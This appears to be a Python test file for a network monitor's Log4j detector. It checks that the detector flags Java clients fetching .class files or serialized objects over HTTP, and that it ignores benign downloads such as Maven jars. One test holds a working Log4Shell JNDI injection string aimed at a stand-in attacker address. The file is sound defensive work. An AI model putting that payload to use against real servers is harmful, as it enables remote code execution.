"""LOG4J_JAVA_CLASS_DOWNLOAD: a class or serialized object fetched over HTTP by Java."""

from __future__ import annotations

from kubectl_netmon.capture.l7.events import HttpRequest, HttpResponse
from tests.detect import wire
from tests.detect.harness import Hooks

VICTIM, SERVER = "10.0.0.5", "203.0.113.7"


def fetch(hooks: Hooks, agent: str, body: bytes, content_type: str, uri="/Exploit.class"):
    conn = hooks.conn(VICTIM, 0, SERVER, 8000)
    hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), method="GET", uri=uri, version="1.1",
                                  host=SERVER, user_agent=agent))
    hooks.event(conn, HttpResponse(ts_ns=hooks.tick(), status=200, reason="OK", version="1.1",
                                   content_type=content_type, body=body, body_len=len(body)))
    hooks.end(conn)
    return hooks


def test_class_served_as_java_vm_to_java_is_raised():
    hooks = fetch(Hooks(), "Java/1.8.0_102", wire.CLASS_FILE, "application/java-vm")
    assert hooks.notes() == ["LOG4J_JAVA_CLASS_DOWNLOAD"]
    assert "user_agent='Java/1.8.0_102', CONTENT-TYPE='application/java-vm'" in hooks.notices[0].sub


def test_class_magic_is_enough_whatever_the_content_type():
    hooks = fetch(Hooks(), "Java/11.0.2", wire.CLASS_FILE, "application/octet-stream")
    assert hooks.notes() == ["LOG4J_JAVA_CLASS_DOWNLOAD"]


def test_serialized_object_to_java_is_raised():
    hooks = fetch(Hooks(), "Java/1.8.0_51", wire.SERIALIZED, "application/octet-stream",
                  uri="/payload.ser")
    assert hooks.notes() == ["LOG4J_JAVA_CLASS_DOWNLOAD"]
    assert hooks.notices[0].extra["java.payload"] == "serialized"


def test_java_vm_type_to_java_is_raised_even_without_body():
    hooks = fetch(Hooks(), "Java/1.8.0_51", b"", "application/java-vm")
    assert hooks.notes() == ["LOG4J_JAVA_CLASS_DOWNLOAD"]


def test_class_to_a_non_java_agent_outside_any_chain_is_not_raised():
    hooks = fetch(Hooks(), "curl/7.68.0", wire.CLASS_FILE, "application/java-vm")
    assert hooks.notices == []


def test_class_to_any_agent_inside_a_chain_is_raised():
    hooks = Hooks()
    conn = hooks.conn(SERVER, 50000, VICTIM, 8080)
    hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
                                  headers=[("user-agent", "${jndi:ldap://203.0.113.7/a}")]))
    fetch(hooks, "curl/7.68.0", wire.CLASS_FILE, "application/octet-stream")
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER", "LOG4J_JAVA_CLASS_DOWNLOAD"]


def test_jar_from_a_maven_repository_is_not_raised():
    jar = b"PK\x03\x04\x14\x00\x08\x08" + b"\x00" * 56
    hooks = fetch(Hooks(), "Java/17.0.2", jar, "application/java-archive",
                  uri="/maven2/org/slf4j/slf4j-api/2.0.9/slf4j-api-2.0.9.jar")
    assert hooks.notices == []


def test_each_download_connection_is_raised():
    hooks = Hooks()
    fetch(hooks, "Java/1.8.0_51", wire.CLASS_FILE, "application/java-vm")
    fetch(hooks, "Java/1.8.0_51", wire.CLASS_FILE, "application/java-vm")
    assert hooks.notes() == ["LOG4J_JAVA_CLASS_DOWNLOAD"] * 2


def test_a_response_is_paired_with_the_request_of_its_own_connection():
    hooks = Hooks()
    java, curl = hooks.conn(VICTIM, 0, SERVER, 8000), hooks.conn(VICTIM, 0, SERVER, 8000)
    for conn, agent in ((curl, "curl/7.68.0"), (java, "Java/1.8.0_102")):
        hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/Exploit.class",
                                      version="1.1", host=SERVER, user_agent=agent))
    hooks.event(curl, HttpResponse(ts_ns=hooks.tick(), status=200, reason="OK", version="1.1",
                                   content_type="application/java-vm", body=wire.CLASS_FILE))
    assert hooks.notices == []
